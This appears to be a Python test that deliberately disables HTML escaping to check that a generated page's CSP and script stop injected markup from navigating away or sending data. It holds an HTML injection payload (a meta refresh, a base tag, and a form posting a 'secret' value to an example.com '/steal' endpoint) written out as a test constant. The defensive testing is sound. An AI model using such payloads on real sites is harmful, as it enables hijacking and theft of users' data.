"""A page whose escaping failed still cannot navigate away or send anything.

Escaping is bypassed on purpose here, so a meta refresh, a form and a ``<base>`` land in
the page as markup; the page's CSP (``form-action 'none'``, ``base-uri 'none'``) and its
script (which stops a refresh it finds) keep it where it is.
"""

from __future__ import annotations

import html

from pathgrad.engine import Value
from pathgrad.viz import step

INJECTED = (
    '<meta http-equiv="refresh" content="0; url={elsewhere}">'
    '<base href="https://example.com/">'
    '<form id="evil" action="https://example.com/steal" method="post">'
    '<input name="q" value="secret"><button id="send" type="submit">send</button></form>'
)


def test_injected_refresh_form_and_base_do_not_navigate_or_send(page, tmp_path, monkeypatch):
    elsewhere = tmp_path / "elsewhere.html"
    elsewhere.write_text("<!DOCTYPE html><title>elsewhere</title>", encoding="utf-8")
    monkeypatch.setattr(html, "escape", lambda text, quote=True: text)  # escaping deliberately bypassed
    x = Value(2.0, "x")
    stepper = step(x * 3, title=INJECTED.format(elsewhere=elsewhere.as_uri()))
    target = stepper.save(tmp_path / "page.html")
    monkeypatch.undo()
    source = target.read_text(encoding="utf-8")
    assert '<h1 id="title"><meta http-equiv="refresh"' in source  # markup, where the title goes
    assert "form-action 'none'" in source and "base-uri 'none'" in source
    page.page.goto(target.resolve().as_uri(), wait_until="commit")  # a stopped page fires no load events
    page.page.wait_for_selector("#counter:not(:empty)")
    page.page.wait_for_timeout(1500)  # a refresh of 0 s has had its chance
    assert page.page.url.split("#")[0] == target.resolve().as_uri()
    assert page.page.evaluate("document.getElementById('evil') !== null")
    page.page.evaluate("document.getElementById('evil').requestSubmit()")  # as the button would
    page.page.wait_for_timeout(500)
    assert page.page.url.split("#")[0] == target.resolve().as_uri()
    assert [url for url in page.requests if not url.startswith("file://")] == []
    page.press("ArrowRight")
    assert page.counter()[0] == 1  # and the page still works
